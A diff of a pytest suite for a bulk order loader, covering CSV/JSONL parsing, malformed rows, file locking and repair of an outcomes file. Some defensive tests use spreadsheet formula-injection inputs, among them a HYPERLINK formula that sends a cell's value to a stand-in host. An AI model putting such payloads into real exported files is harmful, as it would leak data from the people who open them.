@@ -1,14 +1,23 @@
 """The files of a bulk load: orders that are read one by one, and outcomes that a load goes on from."""
 
+import csv
+import itertools
+import os
+import re
+import subprocess
+import sys
+from collections.abc import Sequence
 from pathlib import Path
 
 import pytest
 
+from client.cells import from_cell, to_cell
 from client.orders_file import Entry, line_count, read_orders
-from client.outcomes import OutcomeFile
+from client.outcomes import MALFORMED, OutcomeFile
 from domain.bulk import OTHER_CONTENT, UNKNOWN, Outcome, digest, pack, unpack
 from domain.errors import InvalidInput
 from domain.model import CheckoutInput, OrderLine
+from embedded.stack import ROOT
 
 HEADER = "order_id,customer,sku,quantity\n"
 
@@ -77,7 +86,7 @@ def test_a_malformed_csv_order_is_told_and_the_next_is_read(tmp_path: Path, row:
         ('{"order_id": "n-1"}', "it is no order: KeyError"),
         ('{"order_id": "n-1", "customer": "alice", "lines": []}', "no lines"),
         ('{"order_id": "n-1", "customer": "alice", "lines": [{"sku": "x", "quantity": 1.5}]}', "not a whole number"),
-        ('{"order_id": "n-1", "customer": "' + "x" * 100_000 + '"}', "more than 100000 characters"),
+        ('{"order_id": "n-1", "customer": "' + "x" * 200_000 + '"}', "more than 200000 characters"),
     ],
 )
 def test_a_malformed_json_order_is_told_and_the_next_is_read(tmp_path: Path, line: str, problem: str) -> None:
@@ -95,8 +104,15 @@ def test_a_malformed_json_order_is_told_and_the_next_is_read(tmp_path: Path, lin
         ("o.xlsx", b"", "are read from .csv and .jsonl"),
         ("o.csv", b"id,who\n", "the first line must be order_id,customer,sku,quantity"),
         ("o.csv", b"", "the first line must be"),
-        ("o.csv", b"\xff\xfe", "not in UTF-8"),
-        ("o.csv", HEADER.encode() + b'n-1,"alice\n', "unexpected end of data"),
+        ("o.csv", b"\xff\xfe", "the first line must be"),
+        ("o.csv", b"\xff\xfe\0\0o\0\0\0", "is in UTF-32; save it as CSV UTF-8"),
+        ("o.csv", HEADER.encode("utf-16-le"), "UTF-16 without a byte order mark"),
+        ("o.csv", b"PK\x03\x04 and so on", "is a workbook or an archive; save it as CSV UTF-8"),
+        ("o.csv", b"order_id,customer,sku\n", "the first line must be .* it has no quantity"),
+        ("o.csv", b"order_id,customer,sku,quantity,note\n", "an order has no column 'note'; take it out"),
+        ("o.csv", b"order_id,customer,sku,quantity,SKU\n", "an order has no second column 'sku'; take it out"),
+        ("o.csv", b"order_id,customer,sku,quantity,caf\xe9\n", "line 1: it is not UTF-8 .byte 0xe9 at character 35."),
+        ("o.csv", b"n-1,alice,tea-mug,1\n", "the first line must be"),
     ],
 )
 def test_a_file_that_is_none_is_refused(tmp_path: Path, name: str, content: bytes, problem: str) -> None:
@@ -117,6 +133,320 @@ def test_the_lines_of_a_file_are_counted(tmp_path: Path) -> None:
     (tmp_path / "o.csv").write_text(HEADER * 3, encoding="utf-8")
 
     assert line_count(tmp_path / "o.csv") == 3
+
+
+def test_what_can_be_read_only_once_is_refused_and_not_waited_for(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "o.csv")
+    (tmp_path / "folder.csv").mkdir()
+
+    for name in ("o.csv", "folder.csv"):
+        with pytest.raises(InvalidInput, match="save what it gives to a file first"):
+            next(read_orders(tmp_path / name))
+
+
+def test_a_file_that_changes_while_it_is_read_is_noticed_before_what_has_changed_is_given(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("client.text_file._CHUNK", 1_000)
+    path = tmp_path / "o.csv"
+    rows = "".join(f"n-{number},alice,tea-mug,1\n" for number in range(1_500))
+    path.write_text(HEADER + rows, encoding="utf-8")
+    before = path.stat()
+    entries = read_orders(path)
+    first = [next(entries) for _ in range(10)]
+
+    with path.open("r+b") as file:  # the same length, and the same time
+        file.seek(-8, os.SEEK_END)
+        file.write(b"mug,9\n")
+    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
+
+    assert [entry.order for entry in first] == [order(f"n-{number}") for number in range(10)]
+    with pytest.raises(InvalidInput, match="was changed while it was read"):
+        list(entries)
+
+
+def test_a_file_that_grows_while_it_is_read_is_noticed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("client.text_file._CHUNK", 1_000)
+    path = tmp_path / "o.csv"
+    path.write_text(HEADER + "".join(f"n-{number},alice,tea-mug,1\n" for number in range(1_000)), encoding="utf-8")
+    entries = read_orders(path)
+    next(entries)
+
+    with path.open("a", encoding="utf-8") as file:
+        file.write("n-x,alice,tea-mug,1\n")
+
+    with pytest.raises(InvalidInput, match="was changed while it was read"):
+        list(entries)
+
+
+# What spreadsheets and programs write -------------------------------------------------------------------
+
+SHEET = [
+    ["order_id", "customer", "sku", "quantity"],
+    ["n-1", "alice", "tea-mug", "2"],
+    ["n-1", "alice", "poster", "1"],
+    ["n-2", "bob", "lamp", "1"],
+]
+ORDERS = [order("n-1", "alice", ("tea-mug", 2), ("poster", 1)), order("n-2", "bob", ("lamp", 1))]
+
+
+def sheet(rows: Sequence[Sequence[str]] = SHEET, separator: str = ",", end: str = "\n") -> str:
+    return "".join(separator.join(row) + end for row in rows)
+
+
+def with_columns(*places: int) -> list[list[str]]:
+    return [[row[place] for place in places] for row in SHEET]
+
+
+def quoted(rows: Sequence[Sequence[str]]) -> list[list[str]]:
+    return [[f'"{cell}"' for cell in row] for row in rows]
+
+
+SHEETS = {
+    **{f"separated by {name}": sheet(separator=separator) for name, separator in
+       {"comma": ",", "semicolon": ";", "tab": "\t", "bar": "|"}.items()},
+    **{f"sep={separator!a}": f"sep={separator}\r\n" + sheet(separator=separator, end="\r\n")
+       for separator in (",", ";", "\t", "^", ":")},
+    **{f"lines that end in {end!a}": sheet(end=end) for end in ("\n", "\r\n", "\r")},
+    "no end of the last line": sheet().rstrip("\n"),
+    "line ends of both kinds": sheet().replace("\n", "\r\n", 2),
+    "quotes everywhere": sheet(quoted(SHEET)),
+    "quotes everywhere and semicolons": sheet(quoted(SHEET), ";", "\r\n"),
+    "blanks behind separators": sheet(separator=", "),
+    "blanks before separators": sheet(separator=" ,"),
+    "blanks behind separators and quotes": sheet(quoted(SHEET), ", "),
+    "blanks around the names": sheet([[f" {name}  " for name in SHEET[0]], *SHEET[1:]]),
+    "names in capitals": sheet([[name.upper() for name in SHEET[0]], *SHEET[1:]]),
+    "names in words": sheet([["Order ID", "Customer", "SKU", "Quantity"], *SHEET[1:]]),
+    "names with dashes": sheet([["order-id", "customer", "Sku", "QUANTITY"], *SHEET[1:]]),
+    "columns the other way round": sheet(with_columns(3, 2, 1, 0)),
+    "columns in another sequence": sheet(with_columns(2, 0, 3, 1), ";"),
+    "empty lines": sheet().replace("\n", "\n\n"),
+    "rows of separators": sheet([*SHEET, ["", "", "", ""], ["", "", "", ""]]),
+    "rows of separators in between": sheet([SHEET[0], [""] * 4, *SHEET[1:3], [" "] * 4, SHEET[3]]),
+    "rows of separators before the header": sheet([[""] * 4, *SHEET]),
+    "rows of empty quotes": sheet([*SHEET, ['""'] * 4]),
+    "columns of nothing": sheet([[*row, "", ""] for row in SHEET]),
+    "a column of nothing at the beginning": sheet([["", *row] for row in SHEET], ";"),
+    "the customer once": sheet([*SHEET[:2], ["n-1", "", "poster", "1"], SHEET[3]]),
+    "cells that are merged": sheet([*SHEET[:2], ["", "", "poster", "1"], SHEET[3]], ";"),
+    "the customer last": sheet([SHEET[0], ["n-1", "", "tea-mug", "2"], *SHEET[2:]]),
+    "zeros before a quantity": sheet([SHEET[0], ["n-1", "alice", "tea-mug", "00000000000002"], *SHEET[2:]]),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("name", "encoding"), [("o.csv", "utf-8"), ("o.CSV", "utf-8-sig"), ("o.tsv", "utf-16"), ("o.Txt", "utf-16-be")]
+)
+@pytest.mark.parametrize("text", SHEETS.values(), ids=SHEETS)
+def test_what_a_spreadsheet_writes_is_read(tmp_path: Path, text: str, encoding: str, name: str) -> None:
+    path = tmp_path / name
+    path.write_bytes((b"\xfe\xff" if encoding == "utf-16-be" else b"") + text.encode(encoding))
+
+    assert [entry.order for entry in read_orders(path)] == ORDERS
+
+
+@pytest.mark.parametrize(
+    "quantity",
+    [
+        *("2.0", "2,0", "1.000", "1,000", "1 000", "1'000", "\u00a02", "+2", "1e1", "0x2", "2x", ""),
+        *("\u0662", "\uff12", "2\u00b2", "\u2154"),
+    ],
+)
+def test_a_quantity_that_is_no_plain_number_is_told_with_what_to_write(tmp_path: Path, quantity: str) -> None:
+    malformed, good = read(tmp_path, "o.csv", f'{HEADER}n-1,alice,tea-mug,"{quantity}"\nn-9,alice,tea-mug,1\n')
+
+    assert malformed.problem == (f"line 2: quantity {quantity!a} is not a whole number in digits alone, such as 12")
+    assert good.order == order("n-9")
+
+
+def test_a_quantity_is_never_cut(tmp_path: Path) -> None:
+    [malformed] = read(tmp_path, "o.csv", f"{HEADER}n-1,alice,tea-mug,0000000000010000\n")
+
+    assert malformed.problem == "line 2: quantity 10000 is not between 1 and 1000"
+
+
+def test_rows_in_utf_16_that_are_none_are_told(tmp_path: Path) -> None:
+    path = tmp_path / "o.csv"
+    path.write_bytes(
+        f"\ufeff{HEADER}n-1,ali".encode("utf-16-le")
+        + b"\x3d\xd8"
+        + "ce,tea-mug,1\nn-2,bob,lamp,1\n".encode("utf-16-le")
+        + b"\n"
+    )
+
+    malformed, good, torn = read_orders(path)
+
+    assert malformed.problem == "line 2: it is not UTF-16-LE (byte 0x3d at character 8); save it as CSV UTF-8"
+    assert good.order == order("n-2", "bob", ("lamp", 1))
+    assert "line 4: it is not UTF-16-LE" in torn.problem
+
+
+# Rows that cannot be read -------------------------------------------------------------------------------
+
+GOOD = "n-8,alice,tea-mug,1"
+BAD_ROWS = {
+    "a character of another encoding": b"n-1,caf\xe9,tea-mug,1",
+    "a byte that begins nothing": b"n-1,\xff,tea-mug,1",
+    "half a character": "n-1,alice,tea-mug,1\u20ac".encode()[:-1],
+    "a surrogate as a character": b"n-1,\xed\xa0\xbd,tea-mug,1",
+    "an overlong character": b"n-1,\xc0\xaf,tea-mug,1",
+    "a NUL": b"n-1,al\0ice,tea-mug,1",
+    "a quote that ends too early": b'n-1,alice,"tea"mug,1',
+    "a quote that does not end": b'n-1,alice,"tea-mug,1',
+    "a quote at the very end": b'n-1,alice,tea-mug,"',
+    "a quote with a blank behind it": b'n-1,"alice" ,tea-mug,1',
+    "quotes that are not doubled": b'n-1,alice,"a "mug" of tea",1',
+    "too many columns": b"n-1,alice,tea-mug,1,5",
+    "a decimal comma": b"n-1,alice,tea-mug,2,0",
+    "an empty column too many": b"n-1,alice,tea-mug,1,",
+    "too few columns": b"n-1,alice,tea-mug",
+    "another separator": b"n-1;alice;tea-mug;1",
+    "a very long field": b"n-1,alice," + b"x" * 150_000 + b",1",
+    "a very long quoted field": b'n-1,alice,"' + b"x" * 150_000 + b'",1',
+    "a very long line": b"n-1,alice,tea-mug," + b"1" * 500_000,
+    "no customer": b"n-1,,tea-mug,1",
+    "no SKU": b"n-1,alice,,1",
+    "no order id": b",bob,tea-mug,1",
+}
+
+
+# An order's second row may leave the customer out; and another separator is an id of its own.
+IN_AN_ORDER = {"no customer", "another separator"}
+
+
+@pytest.mark.parametrize("end", [b"\n", b"\r\n", b"\r"])
+@pytest.mark.parametrize("row", BAD_ROWS.values(), ids=BAD_ROWS)
+def test_a_row_that_cannot_be_read_is_malformed_and_the_others_are_orders(
+    tmp_path: Path, row: bytes, end: bytes
+) -> None:
+    path = tmp_path / "o.csv"
+    path.write_bytes(end.join([HEADER.strip().encode(), GOOD.encode(), row, b"n-9,alice,tea-mug,1", b""]))
+
+    before, malformed, after = read_orders(path)
+
+    assert (before.order, after.order) == (order("n-8"), order("n-9"))
+    assert (malformed.line, after.line, malformed.order) == (3, 4, None)
+    assert "line 3" in malformed.problem
+
+
+@pytest.mark.parametrize("row", [row for name, row in BAD_ROWS.items() if name not in IN_AN_ORDER])
+def test_an_order_one_of_whose_rows_cannot_be_read_is_malformed_as_a_whole(tmp_path: Path, row: bytes) -> None:
+    path = tmp_path / "o.csv"
+    rows = [HEADER.strip().encode(), b"n-1,alice,lamp,1", row, b"n-1,alice,poster,1", b"n-9,alice,tea-mug,1", b""]
+    path.write_bytes(b"\n".join(rows))
+
+    malformed, after = read_orders(path)
+
+    assert (malformed.line, malformed.order_id, malformed.order, malformed.lines) == (2, "n-1", None, 3)
+    assert "line 3" in malformed.problem or "customer" in malformed.problem or "SKU" in malformed.problem
+    assert after.order == order("n-9")
+
+
+def test_a_stray_quote_costs_its_row_however_long_the_rest_of_the_file_is(tmp_path: Path) -> None:
+    rows = [f"n-{number},alice,tea-mug,1" for number in range(10_000)]
+    rows[3] = 'n-3,alice,"tea-mug,1'
+    rows[5_000] = 'n-5000,alice,tea-mug",1'
+    rows[7_000] = 'n-7000,alice,"27"" lamp,1'
+    rows[9_999] = 'n-9999,"alice","tea-mug","1"'
+
+    found = read(tmp_path, "o.csv", HEADER + "\n".join(rows))
+
+    assert len(found) == 10_000
+    assert [entry.line for entry in found if entry.order is None] == [5, 5_002, 7_002]
+
+
+def test_what_stands_in_a_quoted_field_of_several_lines_is_no_order(tmp_path: Path) -> None:
+    """A buyer's name may be of several lines, and each may look like a row."""
+    text = f'{HEADER}n-1,"al\nn-2,mallory,lamp,1\nice",tea-mug,1\nn-9,alice,tea-mug,1\nn-2,bob,lamp,1\n'
+
+    *malformed, good, beside = read(tmp_path, "o.csv", text)
+
+    assert [entry.line for entry in malformed] == [2, 3, 4]
+    assert [entry.order for entry in malformed] == [None] * 3
+    assert "line 3: it is in a quoted field that goes from line 2 to line 4" in malformed[1].problem
+    assert good.order == order("n-9")
+    assert beside.order is None  # whose rows lie apart, for all that can be told
+
+
+@pytest.mark.parametrize(
+    "rows",
+    [
+        "a1 b1 a2", "a1 b1 a1", "a1 a1 b1 a1 c1", "a1 b1 c1 a1 b1", "a1 x1 a1 x2 a1", "b1 a1 c1 d1 e1 a2",
+        "a1 b1 a1 b1 a1 b1", "a1 , a1 b1 a1", "a1 bad a1 b1 a1", "a1 b1 bada", "bada b1 a1",
+    ],
+)  # fmt: skip
+def test_an_id_whose_rows_lie_apart_is_malformed_wherever_they_are_and_told_with_both_lines(
+    tmp_path: Path, rows: str
+) -> None:
+    written = {"bad": "\0", "bada": 'a,"alice"x,tea-mug,1', ",": ",,,"}
+    text = "".join(written.get(row, f"{row[0]},alice,{row},1") + "\n" for row in rows.split())
+
+    found = read(tmp_path, "o.csv", HEADER + text)
+
+    groups = [entry for entry in found if entry.order_id == "a"]
+    begins, again = groups[0].line, groups[1].line
+    assert len(groups) >= 2
+    assert [entry.order for entry in groups] == [None] * len(groups)
+    for entry in groups:
+        assert (
+            "quotes" in entry.problem
+            or "NUL" in entry.problem
+            or (f"from line {begins} and again from line " in entry.problem)
+        )
+    assert f"from line {begins} and again from line {again}" in "".join(entry.problem for entry in groups)
+    assert {entry.order_id for entry in found if entry.order} == {"b", "c", "d", "e", "x"} & {
+        row[0]
+        for row in rows.split()
+        if rows.split().count(row) == 1 and sum(r[0] == row[0] for r in rows.split() if r not in written) == 1
+    }
+
+
+@pytest.mark.parametrize(
+    ("rows", "problem"),
+    [
+        ([",,tea-mug,1"], "line 2 has no order id; write it in every row"),
+        (["\0", ",,tea-mug,1"], "line 3 has no order id"),
+        (["n-1,alice,lamp,1", ",bob,tea-mug,1"], "line 3 has no order id"),
+        (["n-1,alice,lamp,1", ",alice,tea-mug,1"], "line 3 has no order id"),
+    ],
+)
+def test_a_row_without_an_id_that_may_be_anybodys_is_malformed(tmp_path: Path, rows: list[str], problem: str) -> None:
+    found = read(tmp_path, "o.csv", HEADER + "\n".join(rows))
+
+    assert any(problem in entry.problem for entry in found)
+    assert all(entry.order in {None, order("n-1", "alice", ("lamp", 1))} for entry in found)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        '{"order_id": "n-1", "order_id": "n-2", "customer": "alice", "lines": [{"sku": "lamp", "quantity": 1}]}',
+        '{"order_id": "n-1", "customer": "alice", "lines": [{"sku": "lamp", "quantity": 1, "quantity": 9}]}',
+        '{"order_id": "n-1", "customer": "alice", "lines": [{"sku": "lamp", "quantity": NaN}]}',
+        '{"order_id": "n-1", "customer": "alice", "lines": [{"sku": "lamp", "quantity": Infinity}]}',
+        '{"order_id": "n-1", "customer": "alice", "lines": [{"sku": "lamp", "quantity": 1e0}]}',
+        '{"order_id": "n-1", "customer": "alice", "lines": [{"sku": "lamp", "quantity": true}]}',
+        '{"order_id": "n-1", "customer": "alice", "lines": [{"sku": "lamp", "quantity": "1"}]}',
+        '{"order_id": "n-1", "customer": "alice", "lines": [{"sku": "lamp", "quantity": ' + "9" * 10_000 + "}]}",
+        '{"order_id": "\\ud800", "customer": "alice", "lines": [{"sku": "lamp", "quantity": 1}]}',
+        '{"order_id": "n\\u0000", "customer": "alice", "lines": [{"sku": "lamp", "quantity": 1}]}',
+        '{"order_id": 1, "customer": "alice", "lines": [{"sku": "lamp", "quantity": 1}]}',
+        '{"order_id": "n-1", "customer": "alice", "lines": "lamp"}',
+        '{"order_id": "n-1", "customer": "alice", "lines": {"sku": "lamp"}}',
+        '{"order_id": {"a": {"b": 1}}, "customer": ["alice"], "lines": []}',
+        '{"order_id": "n-1", "customer": "alice", "lines": [' * 5_000,
+        '{"order_id": "n-1", "customer": "alice", "lines": [{"sku": "lamp", "quantity": 1}]} {}',
+        "[]", "null", '"n-1"', "\ufeff{}", "{'order_id': 'n-1'}", "}", "\0",
+    ],
+)  # fmt: skip
+def test_a_json_line_that_is_no_order_is_told_with_its_line(tmp_path: Path, line: str) -> None:
+    good = '{"order_id": "n-9", "customer": "alice", "lines": [{"sku": "tea-mug", "quantity": 1}]}'
+    before, malformed, after = read(tmp_path, "o.JSONL", f"{good}\r\n{line}\r\n{good}")
+
+    assert (before.order, malformed.order, after.order) == (order("n-9"), None, order("n-9"))
+    assert malformed.problem.startswith("line 2: ")
+    assert len(malformed.problem) <= 500
 
 
 # Writing outcomes ---------------------------------------------------------------------------------------
@@ -156,18 +486,25 @@ def test_an_id_that_was_settled_with_other_content_is_asked_for_again(tmp_path: 
         assert not at_last.is_settled(order("n-1", "carol"))
 
 
-def test_a_file_of_an_earlier_version_is_gone_on_with_as_it_is(tmp_path: Path) -> None:
+def test_a_file_of_an_earlier_version_gets_what_it_lacks_and_its_orders_are_asked_for_again(tmp_path: Path) -> None:
     path = tmp_path / "outcomes.csv"
-    old = "line,order_id,status,reason,total_minor,currency,tracking_number\n2,n-1,completed,,100,EUR,PX1\n"
-    path.write_text(old + "3,n-2,comp", encoding="utf-8")
+    columns = "line,order_id,status,reason,total_minor,currency,tracking_number"
+    path.write_text(f"{columns}\n2,n-1,completed,,100,EUR,PX1\n3,n-2,comp", encoding="utf-8")
+    path.chmod(0o640)
 
     with OutcomeFile(path) as file:
-        assert settled_in(file) == {"n-1"}
-        file.add(3, Outcome("n-2", "completed"), order("n-2"))
+        assert settled_in(file) == set()
+        file.add(2, Outcome("n-1", "completed"), order("n-1"))
+        with pytest.raises(InvalidInput, match="is in use"):
+            OutcomeFile(path)
 
-    assert path.read_text(encoding="utf-8") == old + "3,n-2,completed,,,,\n"
+    content = order("n-1").fingerprint[:16]
+    whole = f"{columns},content\n2,n-1,completed,,100,EUR,PX1,\n2,n-1,completed,,,,,{content}\n"
+    assert path.read_text(encoding="utf-8") == whole
+    assert path.stat().st_mode & 0o777 == 0o640
+    assert list(tmp_path.iterdir()) == [path]
     with OutcomeFile(path) as again:
-        assert settled_in(again) == {"n-1", "n-2"}
+        assert settled_in(again) == {"n-1"}
 
 
 def test_a_line_that_a_killed_load_has_begun_is_written_anew(tmp_path: Path) -> None:
@@ -193,6 +530,134 @@ def test_a_file_of_another_kind_is_not_written_to(tmp_path: Path, content: str) 
         OutcomeFile(path)
 
     assert path.read_text(encoding="utf-8") == content
+
+
+def cells_of(path: Path) -> list[list[str]]:
+    with path.open(encoding="utf-8", newline="") as file:
+        return list(csv.reader(file))
+
+
+RUNS = ("=1+1", "+1", "-1", "@SUM(1)", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201", "\t=1", "\r=1", '"=1', "'=1", " =1")
+SPLITS = ("{}", "a;{}", "a,{}", "a|{}", "a\t{}", "a; {}", 'a;"{}', "a;'{}", "x;y;{};{}", "{},{}")
+
+
+@pytest.mark.parametrize("split", SPLITS)
+@pytest.mark.parametrize("text", RUNS)
+def test_no_cell_runs_in_a_spreadsheet_and_each_can_be_read_back(text: str, split: str) -> None:
+    cell = split.format(text, text)
+
+    shown = to_cell(cell)
+
+    for part in re.split(r"[,;|\t]", shown):
+        assert not re.match(r"""[" ]*[=+\-@\uff1d\uff0b\uff0d\uff20\r]""", part)
+    assert from_cell(shown) == cell
+    assert from_cell(to_cell(shown)) == shown
+
+
+@pytest.mark.parametrize(
+    "text", ["", "'", "''", "'a", "n-1", "a-b", "a;b", "don't", "1001", "#1001", "a'=b", "\u00e4;\u00f6"]
+)
+def test_a_cell_that_does_not_run_is_written_as_it_is(text: str) -> None:
+    assert to_cell(text) == text == from_cell(text)
+
+
+def test_every_text_of_letters_that_matter_to_a_spreadsheet_is_read_back_as_it_was() -> None:
+    for length in range(6):
+        for letters in itertools.product("=';a \"", repeat=length):
+            text = "".join(letters)
+            assert from_cell(to_cell(text)) == text
+
+
+def test_outcomes_are_safe_in_a_spreadsheet_and_the_load_finds_its_orders_again(tmp_path: Path) -> None:
+    path = tmp_path / "outcomes.csv"
+    evil = order("n-1")
+    object.__setattr__(evil, "order_id", '=HYPERLINK("http://x.example/?"&B2,"a;=b")')
+    with OutcomeFile(path) as file:
+        file.add(2, Outcome(evil.order_id, "completed", "-1\n=1", 100, "@EUR", "+PX"), evil)
+        file.add(3, Outcome("\r=1+1\x1b[2J\n", MALFORMED, "=1\u202e"))
+
+    with OutcomeFile(path) as again:
+        assert again.is_settled(evil)
+
+    _, ended, malformed = cells_of(path)
+    assert ended[1:7] == [
+        '\'=HYPERLINK("http://x.example/?"&B2,"a;\'=b")',
+        "completed",
+        "'-1 =1",
+        "100",
+        "'@EUR",
+        "'+PX",
+    ]
+    assert malformed[1:4] == ["'=1+1 [2J", "malformed", "'=1"]
+    assert len(path.read_text(encoding="utf-8").splitlines()) == 3
+
+
+def test_one_load_at_a_time_has_an_outcome_file_and_the_other_is_told_who(tmp_path: Path) -> None:
+    path = tmp_path / "outcomes.csv"
+    told = f"{path} is in use: process {os.getpid()} is loading into it; wait"
+    with OutcomeFile(path), pytest.raises(InvalidInput, match=told):
+        OutcomeFile(path)
+
+    with OutcomeFile(path) as again:
+        assert settled_in(again) == set()
+
+
+def test_the_lock_of_a_load_that_was_killed_is_gone_with_it(tmp_path: Path) -> None:
+    path = tmp_path / "outcomes.csv"
+    script = "import sys; from pathlib import Path; from client.outcomes import OutcomeFile\n"
+    script += "file = OutcomeFile(Path(sys.argv[1])); print('locked', flush=True); sys.stdin.read()"
+    command = [sys.executable, "-c", script, str(path)]
+    with subprocess.Popen(command, cwd=ROOT, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as other:
+        assert other.stdout is not None
+        assert other.stdout.readline() == "locked\n"
+        with pytest.raises(InvalidInput, match=f"process {other.pid} is loading"):
+            OutcomeFile(path)
+        other.kill()
+
+    with OutcomeFile(path) as file:
+        assert settled_in(file) == set()
+
+
+WHOLE = (
+    "line,order_id,status,reason,total_minor,currency,tracking_number,content\n"
+    f"2,n-1,completed,,,,,{order('n-1').fingerprint[:16]}\n"
+)
+
+
+@pytest.mark.parametrize("length", range(len(WHOLE) + 1))
+def test_a_file_that_is_torn_wherever_is_healed(tmp_path: Path, length: int) -> None:
+    path = tmp_path / "outcomes.csv"
+    path.write_text(WHOLE[:length], encoding="utf-8")
+
+    with OutcomeFile(path) as file:
+        assert settled_in(file) == ({"n-1"} if length == len(WHOLE) else set())
+        if not settled_in(file):
+            file.add(2, Outcome("n-1", "completed"), order("n-1"))
+
+    assert path.read_text(encoding="utf-8") == WHOLE
+
+
+@pytest.mark.parametrize(
+    "rest", ["3,n-2,\u20ac".encode()[:-1], b"\0" * 70_000, b'3,n-2,rejected,"a reason; ' + b"x" * 200_000]
+)
+def test_whatever_is_torn_at_the_end_is_cut_off(tmp_path: Path, rest: bytes) -> None:
+    path = tmp_path / "outcomes.csv"
+    path.write_bytes(WHOLE.encode() + rest)
+
+    with OutcomeFile(path) as file:
+        assert settled_in(file) == {"n-1"}
+
+    assert path.read_text(encoding="utf-8") == WHOLE
+
+
+def test_a_file_of_nuls_is_none_of_ours(tmp_path: Path) -> None:
+    path = tmp_path / "disk.img"
+    path.write_bytes(b"\0" * 5_000)
+
+    with pytest.raises(InvalidInput, match="no outcome file"):
+        OutcomeFile(path)
+
+    assert path.stat().st_size == 5_000
 
 
 def test_a_place_that_cannot_be_written_to_is_refused(tmp_path: Path) -> None:
